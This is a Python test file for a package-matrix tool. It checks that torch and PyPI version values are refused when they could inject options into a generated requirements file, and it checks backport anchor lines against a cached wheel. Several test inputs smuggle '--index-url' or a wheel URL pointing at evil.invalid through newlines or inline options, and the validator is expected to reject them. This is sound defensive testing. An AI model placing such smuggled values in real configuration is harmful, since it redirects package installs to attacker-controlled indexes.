"""Safe inputs: matrix values that reach a requirements/overrides file, and backport anchors checked at load.

``torch = "==2.12.1\\n--index-url http://..."`` used to pass validation and uv honoured the injected index.
Each refusal names the matrix file, the table and the key.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest

from matrix import spec
from matrix.errors import SpecError
from tests.matrices import GOOD


def load(tmp_path: Path, text: str) -> spec.Matrix:
    path = tmp_path / "m.toml"
    path.write_text(text, encoding="utf-8")
    return spec.load(path, check_index=False)


def refused(tmp_path: Path, text: str) -> list[str]:
    with pytest.raises(SpecError) as err:
        load(tmp_path, text)
    assert str(tmp_path / "m.toml") in str(err.value)
    return err.value.problems


@pytest.mark.parametrize(("value", "why"), [
    ("==2.12.1\n--index-url http://evil.invalid/simple", "contains a newline or control character"),
    ("==2.12.1\r--extra-index-url http://evil.invalid", "contains a newline or control character"),
    ("==2.12.1 --index-url http://evil.invalid/simple", "contains a command-line option"),
    ("--index-url=http://evil.invalid/simple", "contains a command-line option"),
    ("-e .", "contains a command-line option"),
    ("@ https://evil.invalid/torch-2.12.1-py3-none-any.whl", "is not a PEP 508 version specifier set"),
    ("==2.12.1; python_version > '3'", "is not a PEP 508 version specifier set"),
    ("2.12.1 or newer", "is not a valid PEP 440 version"),
])
def test_an_injected_torch_value_is_refused(tmp_path: Path, value: str, why: str) -> None:
    got = refused(tmp_path, GOOD.replace("schema = 1", f"schema = 1\n[options]\ntorch = {json.dumps(value)}"))
    assert len(got) == 1
    assert got[0].startswith(f"[options]: torch = {value!r} {why}")


def test_a_pair_option_is_checked_too(tmp_path: Path) -> None:
    text = GOOD + ('[pairs]\nproduct = false\ninclude = [{ unsloth = "u1", zoo = "z1", '
                   'options = { torch = "==2.12.1\\n--index-url http://evil.invalid" } }]\n')
    (got,) = refused(tmp_path, text)
    assert got.startswith("[pairs] include #1 options: torch = ") and "newline" in got


@pytest.mark.parametrize(("value", "stored"), [
    ("2.12.1", "2.12.1"), ("==2.12.1", "==2.12.1"), (">=2.12,<2.13", ">=2.12,<2.13"), (" ==2.12.1 ", "==2.12.1"),
    ("~=2.12.0", "~=2.12.0"), ("", ""),
])
def test_a_plain_torch_specifier_is_accepted(tmp_path: Path, value: str, stored: str) -> None:
    m = load(tmp_path, GOOD.replace("schema = 1", f"schema = 1\n[options]\ntorch = {json.dumps(value)}"))
    assert m.options.torch == stored


def test_a_pypi_version_with_a_newline_is_refused(tmp_path: Path) -> None:
    (got,) = refused(tmp_path, GOOD.replace('version = "2026.9.3"', 'version = "2026.9.3\\n--index-url http://x"'))
    assert got.startswith("[[build]] #2 'z1': version = ") and "newline" in got
    # packaging alone would accept a trailing newline; it still never reaches a requirements line
    (got,) = refused(tmp_path, GOOD.replace('version = "2026.9.3"', 'version = "2026.9.3\\n"'))
    assert "newline" in got


# --------------------------------------------------------------------------- backport anchors at load


BACKPORT = """
[[build]]
name = "zfix"
package = "unsloth_zoo"
source = "backport"
base = "z1"
backport = "bp"
"""


def cached_base(cache: Path, text: str) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("unsloth_zoo/fused_losses/cross_entropy_loss.py", text)
        zf.writestr("unsloth_zoo-2026.9.3.dist-info/METADATA", "Name: unsloth_zoo\nVersion: 2026.9.3\n")
    cache.mkdir(parents=True, exist_ok=True)
    path = cache / "unsloth_zoo-2026.9.3-py3-none-any.whl"
    path.write_bytes(buf.getvalue())
    return path


@pytest.fixture
def backport_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SKEWMATRIX_WHEEL_CACHE", str(tmp_path / "wheels"))
    (tmp_path / "bp").mkdir()
    (tmp_path / "bp" / "backport.toml").write_text(
        'package = "unsloth_zoo"\nsummary = "test"\n[[insert]]\n'
        'file = "unsloth_zoo/fused_losses/cross_entropy_loss.py"\n'
        "anchor = '^        divisor = divisor\\.to\\(device\\)$'\nwhere = \"after\"\ntext = \"        pass\"\n",
        encoding="utf-8")
    return tmp_path


def test_a_stale_anchor_is_reported_at_load_when_the_base_is_cached(backport_dir: Path) -> None:
    cached_base(backport_dir / "wheels", "def f(divisor):\n    return divisor\n")
    (got,) = refused(backport_dir, GOOD + BACKPORT)
    assert got.startswith("[[build]] #4 'zfix': backport bp (build zfix) [[insert]] #1: anchor ")
    assert "matches no line in unsloth_zoo/fused_losses/cross_entropy_loss.py" in got
    assert got.endswith("(base wheel unsloth_zoo-2026.9.3-py3-none-any.whl)")


def test_an_anchor_that_fits_the_cached_base_passes(backport_dir: Path) -> None:
    cached_base(backport_dir / "wheels", "def f(divisor):\n        divisor = divisor.to(device)\n")
    m = load(backport_dir, GOOD + BACKPORT)
    assert "zfix" in m.builds


def test_without_a_cached_base_the_anchor_waits_for_the_build(backport_dir: Path) -> None:
    m = load(backport_dir, GOOD + BACKPORT)  # nothing cached: no download at load time, no error yet
    assert "zfix" in m.builds
